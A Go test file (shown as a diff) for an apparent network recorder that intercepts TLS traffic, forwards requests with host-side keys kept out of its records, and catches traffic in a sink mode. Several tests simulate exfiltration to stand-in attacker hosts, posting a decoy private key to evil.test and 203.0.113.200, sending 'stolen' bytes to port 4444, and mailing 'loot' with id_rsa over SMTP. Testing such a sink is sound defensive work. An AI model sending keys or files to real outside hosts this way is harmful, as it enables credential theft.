@@ -1,0 +1,421 @@
+package names
+
+import (
+	"bufio"
+	"crypto/sha256"
+	"crypto/tls"
+	"crypto/x509"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/bodycam-dev/bodycam"
+)
+
+// trusting is a TLS client's configuration with the run's CA alone.
+func (b *bench) trusting() *tls.Config {
+	b.t.Helper()
+	pool := x509.NewCertPool()
+	if !pool.AppendCertsFromPEM(b.p.CA()) {
+		b.t.Fatalf("no CA: %q", b.p.CA())
+	}
+	return &tls.Config{RootCAs: pool}
+}
+
+// tlsServer serves with a certificate for its test names, which the returned pool verifies.
+func tlsServer(t *testing.T, h http.Handler) (string, *x509.CertPool) {
+	t.Helper()
+	ca, err := newAuthority()
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewUnstartedServer(h)
+	srv.EnableHTTP2 = true
+	byAddress, err := ca.leaf("127.0.0.1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv.TLS = &tls.Config{Certificates: []tls.Certificate{*byAddress}, GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) {
+		if h.ServerName == "" {
+			return byAddress, nil
+		}
+		return ca.leaf(h.ServerName)
+	}}
+	srv.StartTLS()
+	t.Cleanup(srv.Close)
+	pool := x509.NewCertPool()
+	pool.AddCert(ca.cert)
+	return portOf(srv.Listener.Addr()), pool
+}
+
+func TestIntercept(t *testing.T) {
+	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		n, _ := io.Copy(io.Discard, r.Body)
+		w.Header().Set("X-Answer", "1")
+		w.WriteHeader(201)
+		fmt.Fprintf(w, "%s %d %s %s q=%s xff=%q", r.Method, n, r.Host, r.Proto, r.URL.RawQuery, r.Header.Get("X-Forwarded-For"))
+	}))
+	for _, http2 := range []bool{false, true} {
+		b := newBench(t, func(o *Options) { o.Intercept, o.Roots, o.MaxBody = true, roots, 1000 })
+		tr := &http.Transport{DialContext: b.dialContext, ForceAttemptHTTP2: http2, TLSClientConfig: b.trusting()}
+		c := &http.Client{Transport: tr}
+		body := strings.Repeat("payload ", 100_000)
+		proto := map[bool]string{false: "HTTP/1.1", true: "HTTP/2.0"}[http2]
+		for i := range 3 {
+			req, err := http.NewRequest("PUT", fmt.Sprintf("https://web.test:%s/up%d?a=1;b=%%zz", port, i), strings.NewReader(body))
+			if err != nil {
+				t.Fatal(err)
+			}
+			req.Header.Set("Authorization", "Bearer very-secret")
+			resp, err := c.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, wanted := readAll(t, resp.Body), fmt.Sprintf(`PUT %d web.test:%s %s q=a=1;b=%%zz xff=""`, len(body), port, proto)
+			if got != wanted || resp.StatusCode != 201 || resp.Proto != proto {
+				t.Errorf("%s %d %q, want %q", resp.Proto, resp.StatusCode, got, wanted)
+			}
+			x := b.content(func(c *Content) bool { return strings.Contains(c.URL, fmt.Sprintf("/up%d?", i)) })
+			if x.Method != "PUT" || x.Status != 201 || x.Proto != proto || x.Host != "web.test" || x.Target != "upstream" ||
+				x.URL != fmt.Sprintf("https://web.test:%s/up%d?a=1;b=%%zz", port, i) {
+				t.Errorf("%+v", x)
+			}
+			if x.Request.SHA256 != sha256.Sum256([]byte(body)) || x.Request.Bytes != uint64(len(body)) || string(x.Request.Data) != body[:1000] || !x.Request.Cut() {
+				t.Errorf("request body: %d bytes, digest %x, kept %d", x.Request.Bytes, x.Request.SHA256, len(x.Request.Data))
+			}
+			if string(x.Response.Data) != got || x.Response.Cut() {
+				t.Errorf("response body %q", x.Response.Data)
+			}
+			if !slices.Contains(x.RequestHeader, "Authorization") || !slices.Contains(x.ResponseHeader, "X-Answer") {
+				t.Errorf("header names %v %v", x.RequestHeader, x.ResponseHeader)
+			}
+			if strings.Contains(fmt.Sprintf("%+v", x.RequestHeader), "secret") {
+				t.Error("a header's value was kept")
+			}
+		}
+		e := b.wait("http", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP })
+		want(t, e, "PUT https://web.test:"+port+"/up0?a=1;b=%zz "+proto+" status=201")
+		tr.CloseIdleConnections()
+		f := b.wait("flow", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeFlow })
+		want(t, f, "upstream=127.0.0.1:"+port, "outcome=ok", "proto=tls")
+		if f.BytesWritten < uint64(3*len(body)) || f.Host != "web.test" {
+			t.Error(show(&f))
+		}
+		b.stop()
+		for _, bl := range b.p.Health().Blind {
+			if bl.What == "tls-content" {
+				t.Errorf("nothing was hidden, but: %+v", bl)
+			}
+		}
+	}
+}
+
+func TestInterceptVerifiesUpstream(t *testing.T) {
+	port, _ := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "evil twin") }))
+	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, x509.NewCertPool() })
+	resp, err := (&http.Client{Transport: &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting()}}).Get("https://web.test:" + port)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := readAll(t, resp.Body); resp.StatusCode != 502 || strings.Contains(got, "evil") {
+		t.Errorf("%d %q", resp.StatusCode, got)
+	}
+	x := b.content(func(*Content) bool { return true })
+	if !strings.Contains(x.Err, "unknown authority") {
+		t.Errorf("%+v", x)
+	}
+	e := b.wait("http", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP })
+	if e.Errno == 0 {
+		t.Error(show(&e))
+	}
+}
+
+func TestClientThatRefusesTheCA(t *testing.T) {
+	port, roots := tlsServer(t, http.NotFoundHandler())
+	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, roots })
+	c := b.mustDial("web.test:" + port)
+	if err := tls.Client(c, &tls.Config{ServerName: "web.test", RootCAs: x509.NewCertPool()}).Handshake(); err == nil {
+		t.Fatal("the client took a certificate that it doesn't know")
+	}
+	c.Close()
+	f := b.flow(c)
+	want(t, f, "outcome=client-refused-tls", "certificate")
+	if f.Host != "web.test" || f.Errno == 0 {
+		t.Error(show(&f))
+	}
+}
+
+func TestInterceptStreamsAndUpgrades(t *testing.T) {
+	next := make(chan bool)
+	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Upgrade") == "echo" {
+			c, rw, err := http.NewResponseController(w).Hijack()
+			if err != nil {
+				t.Error(err)
+				return
+			}
+			defer c.Close()
+			io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
+			line, _ := rw.ReadString('\n')
+			io.WriteString(c, "echo "+line)
+			return
+		}
+		w.Header().Set("Content-Type", "text/event-stream")
+		for i := range 3 {
+			fmt.Fprintf(w, "data: %d\n\n", i)
+			http.NewResponseController(w).Flush()
+			<-next
+		}
+	}))
+	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, roots })
+	resp, err := (&http.Client{Transport: &http.Transport{DialContext: b.dialContext, ForceAttemptHTTP2: true, TLSClientConfig: b.trusting()}}).Get("https://web.test:" + port)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := bufio.NewReader(resp.Body)
+	for i := range 3 { // each must arrive before the server goes on
+		if line, err := r.ReadString('\n'); line != fmt.Sprintf("data: %d\n", i) {
+			t.Fatal(line, err)
+		}
+		r.ReadString('\n')
+		next <- true
+	}
+	resp.Body.Close()
+
+	cfg := b.trusting()
+	cfg.ServerName = "web.test"
+	c := tls.Client(b.mustDial("web.test:"+port), cfg)
+	io.WriteString(c, "GET / HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
+	br := bufio.NewReader(c)
+	up, err := http.ReadResponse(br, nil)
+	if err != nil || up.StatusCode != 101 {
+		t.Fatal(up, err)
+	}
+	io.WriteString(c, "hello\n")
+	if line, _ := br.ReadString('\n'); line != "echo hello\n" {
+		t.Errorf("got %q", line)
+	}
+	c.Close()
+	x := b.content(func(c *Content) bool { return c.Status == 101 })
+	if string(x.Request.Data) != "hello\n" || string(x.Response.Data) != "echo hello\n" {
+		t.Errorf("%q %q", x.Request.Data, x.Response.Data)
+	}
+}
+
+// What is inside TLS need not be HTTP, and the server may speak first.
+func TestInterceptOtherProtocols(t *testing.T) {
+	ca, err := newAuthority()
+	if err != nil {
+		t.Fatal(err)
+	}
+	l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{NextProtos: []string{"imap"}, GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return ca.leaf(h.ServerName) }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				io.WriteString(c, "* OK ready\r\n")
+				line, _ := bufio.NewReader(c).ReadString('\n')
+				io.WriteString(c, "got "+line)
+			}()
+		}
+	}()
+	roots := x509.NewCertPool()
+	roots.AddCert(ca.cert)
+	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, roots })
+	cfg := b.trusting()
+	cfg.ServerName, cfg.NextProtos = "mail.test", []string{"imap"}
+	raw := b.mustDial("mail.test:" + portOf(l.Addr()))
+	c := tls.Client(raw, cfg)
+	r := bufio.NewReader(c)
+	if line, err := r.ReadString('\n'); line != "* OK ready\r\n" {
+		t.Fatalf("%q, %v", line, err)
+	}
+	if p := c.ConnectionState().NegotiatedProtocol; p != "imap" {
+		t.Errorf("protocol %q", p)
+	}
+	io.WriteString(c, "a LOGIN me pass\r\n")
+	if line, _ := r.ReadString('\n'); line != "got a LOGIN me pass\r\n" {
+		t.Errorf("%q", line)
+	}
+	c.Close()
+	x := b.content(func(c *Content) bool { return c.Proto == "tls" })
+	if string(x.Request.Data) != "a LOGIN me pass\r\n" || !strings.HasPrefix(string(x.Response.Data), "* OK") {
+		t.Errorf("%+v", x)
+	}
+	if f := b.flow(raw); f.Errno != 0 {
+		t.Error(show(&f))
+	}
+
+	// No TLS at all: passed on as it is.
+	port := listen(t, func(c *net.TCPConn) { io.WriteString(c, "plain") })
+	if got := readAll(t, b.mustDial("mail.test:"+port)); got != "plain" {
+		t.Errorf("%q", got)
+	}
+}
+
+func TestForwardToURL(t *testing.T) {
+	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		fmt.Fprintf(w, "%s %s %s %s", r.Host, r.URL, r.Header.Get("Authorization"), body)
+	}))
+	secret := "Bearer host-side-key"
+	var broken error
+	b := newBench(t, func(o *Options) {
+		o.Local, o.Roots = nil, roots
+		o.Forwards = []Forward{{Host: "model.bodycam.internal", Port: 80, Target: "https://127.0.0.1:" + port + "/base/v9",
+			Header: func() (http.Header, error) {
+				return http.Header{"Authorization": {secret}}, broken
+			}}}
+	})
+	c := &http.Client{Transport: &http.Transport{DialContext: b.dialContext}}
+	post := func() (int, string) {
+		req, err := http.NewRequest("POST", "http://model.bodycam.internal/responses?x=1", strings.NewReader("prompt"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("Authorization", "Bearer dummy")
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp.StatusCode, readAll(t, resp.Body)
+	}
+	if code, got := post(); got != "127.0.0.1:"+port+" /base/v9/responses?x=1 "+secret+" prompt" {
+		t.Errorf("%d %q", code, got)
+	}
+	x := b.content(func(*Content) bool { return true })
+	if x.Host != "model.bodycam.internal" || string(x.Request.Data) != "prompt" || x.Target != "forward" {
+		t.Errorf("%+v", x)
+	}
+	e := b.wait("http", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP })
+	if e.Host != "model.bodycam.internal" {
+		t.Error(show(&e))
+	}
+	broken = errors.New("no key in the keyring")
+	if code, got := post(); code != 502 || strings.Contains(got, "keyring") {
+		t.Errorf("%d %q", code, got)
+	}
+	c.CloseIdleConnections()
+	b.stop()
+	x.Response.Data = nil // the echo of this test's server
+	if all := fmt.Sprintf("%+v %+v", b.events, x); strings.Contains(all, "host-side-key") {
+		t.Error("the key is in the record")
+	}
+}
+
+// Streaming to a forward: each piece at once.
+func TestForwardStreams(t *testing.T) {
+	next := make(chan bool)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		for i := range 2 {
+			fmt.Fprintf(w, "data: %d\n\n", i)
+			http.NewResponseController(w).Flush()
+			<-next
+		}
+	}))
+	defer srv.Close()
+	b := newBench(t, func(o *Options) {
+		o.Forwards = []Forward{{Host: "model.bodycam.internal", Port: 80, Target: srv.URL}}
+	})
+	resp, err := (&http.Client{Transport: &http.Transport{DialContext: b.dialContext}}).Get("http://model.bodycam.internal/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	buf := make([]byte, 100)
+	for i := range 2 {
+		n, err := resp.Body.Read(buf)
+		if got := string(buf[:n]); got != fmt.Sprintf("data: %d\n\n", i) {
+			t.Fatal(got, err)
+		}
+		next <- true
+	}
+}
+
+func TestStandIn(t *testing.T) {
+	b := newBench(t, func(o *Options) { o.Mode, o.Allow = Sink, []string{"web.test"} })
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "real") }))
+	defer srv.Close()
+	tr := &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting(), ForceAttemptHTTP2: true}
+	c := &http.Client{Transport: tr}
+	resp, err := c.Get("http://web.test:" + portOf(srv.Listener.Addr()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := readAll(t, resp.Body); got != "real" {
+		t.Errorf("a listed host: %q", got)
+	}
+	key := "-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Repeat("decoy", 1000)
+	for _, url := range []string{"http://evil.test/drop", "https://evil.test/drop", "http://203.0.113.200:8080/drop"} {
+		resp, err := c.Post(url, "text/plain", strings.NewReader(key))
+		if err != nil {
+			t.Fatal(url, err)
+		}
+		if got := readAll(t, resp.Body); resp.StatusCode != 200 || got != "ok\n" {
+			t.Errorf("%s: %d %q", url, resp.StatusCode, got)
+		}
+		x := b.content(func(c *Content) bool { return c.URL == url })
+		if string(x.Request.Data) != key || x.Request.SHA256 != sha256.Sum256([]byte(key)) || x.Target != "stand-in" || string(x.Response.Data) != "ok\n" {
+			t.Errorf("%+v", x)
+		}
+	}
+	if b.upstream.asked("evil") {
+		t.Error("a host that is not listed was asked for upstream")
+	}
+	raw := b.mustDial("evil.test:4444")
+	io.WriteString(raw, "\x01stolen")
+	raw.CloseWrite()
+	readAll(t, raw)
+	if x := b.content(func(c *Content) bool { return c.Remote.Port() == 4444 }); string(x.Request.Data) != "\x01stolen" || x.Host != "evil.test" {
+		t.Errorf("%+v", x)
+	}
+	want(t, b.flow(raw), "upstream=stand-in", "outcome=ok")
+}
+
+func TestStandInTakesMail(t *testing.T) {
+	b := newBench(t, func(o *Options) { o.Mode = Sink })
+	c := b.mustDial("mail.evil.test:25")
+	start := time.Now()
+	r := bufio.NewReader(c)
+	said := func(code string) {
+		t.Helper()
+		for {
+			line, err := r.ReadString('\n')
+			if err != nil || !strings.HasPrefix(line, code) {
+				t.Fatalf("want %s, got %q, %v", code, line, err)
+			}
+			if line[3] == ' ' {
+				return
+			}
+		}
+	}
+	said("220")
+	if d := time.Since(start); d > 2*time.Second {
+		t.Errorf("the banner took %v", d)
+	}
+	for _, s := range []struct{ say, code string }{
+		{"EHLO me", "250"}, {"AUTH LOGIN", "334"}, {"bWU=", "334"}, {"cGFzcw==", "235"}, {"AUTH PLAIN AG1lAHBhc3M=", "235"}, {"MAIL FROM:<a@b>", "250"},
+		{"RCPT TO:<x@evil.test>", "250"}, {"DATA", "354"}, {"Subject: loot\r\n\r\nid_rsa\r\n..\r\n.", "250"}, {"QUIT", "221"},
+	} {
+		io.WriteString(c, s.say+"\r\n")
+		said(s.code)
+	}
+	x := b.content(func(c *Content) bool { return c.Proto == "smtp" })
+	if !strings.Contains(string(x.Request.Data), "Subject: loot\r\n\r\nid_rsa") || x.Host != "mail.evil.test" {
+		t.Errorf("%+v", x)
+	}
+}
